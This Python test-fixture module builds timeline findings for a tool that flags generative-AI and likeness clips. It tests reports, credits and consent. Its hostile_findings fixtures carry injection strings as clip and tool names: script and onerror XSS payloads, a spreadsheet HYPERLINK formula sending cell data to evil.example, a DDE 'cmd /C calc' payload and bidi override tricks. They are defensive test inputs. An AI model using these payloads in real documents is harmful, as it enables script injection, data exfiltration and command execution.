"""Hand-built findings and runs for the report, credits and consent tests (hostile names included)."""

from __future__ import annotations

from typing import Any

from genflag.findings import Evidence, Finding, RunResult, TimelineResult

RATE = 24.0
HOUR = 3600 * RATE  # timelines start at 01:00:00:00
SCRIPT_NAME = "<script>window.__pwned=1;alert(1)</script>"
IMG_NAME = '<img src=x onerror="window.__pwned=2;alert(2)">'
SVG_NAME = "</title></rect><script>window.__pwned=3</script><rect>"
FORMULA_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
RTL_NAME = "\u05e9\u05dc\u05d5\u05dd_\u202eSH030\u202c_\u0645\u0631\u062d\u0628\u0627"
LONG_NAME = "SH999_" + "x" * 10_000


def timecode(frames: float, rate: float = RATE) -> str:
    """Render frames as a non-drop timecode."""
    total = int(frames)
    fps = int(rate)
    return f"{total // (3600 * fps):02d}:{total // (60 * fps) % 60:02d}:{total // fps % 60:02d}:{total % fps:02d}"


def finding(clip: str = "SH010_runway_v001", *, start: float | None = 0.0, duration: float = 48.0,
            track: str = "V1", clip_index: int = 0, timeline: str = "/shows/ep101/EP101_cut.otio",
            timeline_name: str = "EP101 cut", category: str = "generative.video", severity: str = "error",
            tool: str | None = "Runway Gen-4", vendor: str | None = "Runway AI, Inc.",
            rule: str = "genai.video.runway", requires: list[str] | None = None,
            media: str | None = "/media/SH010_runway_v001.mov", status: str = "open",
            captures: dict[str, str] | None = None, credit: str | None = None, **extra: Any) -> Finding:
    """Build one finding; start and duration are frames from the timeline start (None: no position)."""
    rng = None if start is None else {"start": HOUR + start, "duration": duration, "rate": RATE}
    made = Finding(
        timeline=timeline, timeline_name=timeline_name, track=track, clip=clip, clip_index=clip_index,
        record_in=timecode(HOUR + start) if start is not None else None,
        record_out=timecode(HOUR + start + duration) if start is not None else None,
        record_range=rng, source_range=None, media=media, rule=rule, title=f"{tool or 'Unknown'} clip",
        severity=severity, category=category, message=f"{tool} clip on {track}: {clip}",
        evidence=[Evidence(field="clip.name", value=clip, matched="word: runway", selection="by_name")],
        requires=list(requires if requires is not None else ["approval", "credit", "disclosure"]),
        tool=tool, vendor=vendor, status=status, captures=dict(captures or {}), **extra)
    if credit is not None:
        made.credit = credit
    return made


def hostile_findings() -> list[Finding]:
    """Findings whose names, tools and categories try to inject markup, formulas and bidi tricks."""
    return [
        finding(SCRIPT_NAME, start=0, track="V1", clip_index=0),
        finding(IMG_NAME, start=48, track="V2", clip_index=1, tool=IMG_NAME, vendor=SCRIPT_NAME,
                category="generative.image", rule="genai.image.midjourney"),
        finding(SVG_NAME, start=96, track=SCRIPT_NAME, clip_index=2, media=None),
        finding(FORMULA_NAME, start=144, clip_index=3, tool="+cmd|' /C calc'!A0", vendor="@SUM(1+1)",
                category="likeness.digital_replica", captures={"performer": "-2+3"}),
        finding(RTL_NAME, start=192, clip_index=4, category="likeness.voice",
                captures={"performer": "\u05d3\u05e0\u05d4 \u05db\u05d4\u05df"}),
        finding(LONG_NAME, start=240, clip_index=5, tool="T" * 10_000),
        finding("SH070 cleared", start=288, clip_index=6, status="cleared", severity="warning",
                category="ml.upscale", tool="Topaz Video AI", vendor="Topaz Labs", requires=[]),
        finding("SH080 no position", start=None, clip_index=7, media=None),
    ]


def sample_run() -> RunResult:
    """Two timeline files: an episode with hostile findings, and an empty reel with 0 clips."""
    episode = TimelineResult(path="/shows/ep101/EP101_cut.otio", findings=hostile_findings(),
                             clips=42, timelines=1, errors=[f"EP101_cut.otio:V9@01:00:00:00: error: {IMG_NAME}"])
    empty = TimelineResult(path="/shows/ep102/EP102_empty.otio", findings=[], clips=0, timelines=1)
    return RunResult(results=[episode, empty], rule_pack={"id": "genflag.default", "version": "1"},
                     checked_at="2026-09-01T10:00:00+00:00")


def credits_run() -> RunResult:
    """A run with two Runway shots (one clip flagged twice), one Midjourney shot and one likeness shot."""
    findings = [
        finding("SH010_runway", start=0, duration=48, clip_index=0),
        finding("SH010_runway", start=0, duration=48, clip_index=0, rule="genai.video.runway.c2pa"),
        finding("SH020_runway", start=48, duration=24, clip_index=1),
        finding("SH030_mj", start=72, duration=72, clip_index=2, tool="Midjourney", vendor="Midjourney, Inc.",
                category="generative.image", rule="genai.image.midjourney",
                credit="Generative imagery created with {tool}"),
        finding("SH040_face", start=144, duration=24, clip_index=3, tool="FaceFusion", vendor=None,
                category="likeness.digital_replica", rule="likeness.faceswap",
                requires=["consent", "disclosure"], captures={"performer": "Jane Doe"}),
        finding("SH050_topaz", start=168, duration=24, clip_index=4, tool="Topaz Video AI", vendor="Topaz Labs",
                category="ml.upscale", rule="ml.upscale.topaz", requires=[]),
    ]
    return RunResult(results=[TimelineResult(path="/shows/ep101/EP101_cut.otio", findings=findings,
                                             clips=10, timelines=1)],
                     checked_at="2026-09-01T10:00:00+00:00")
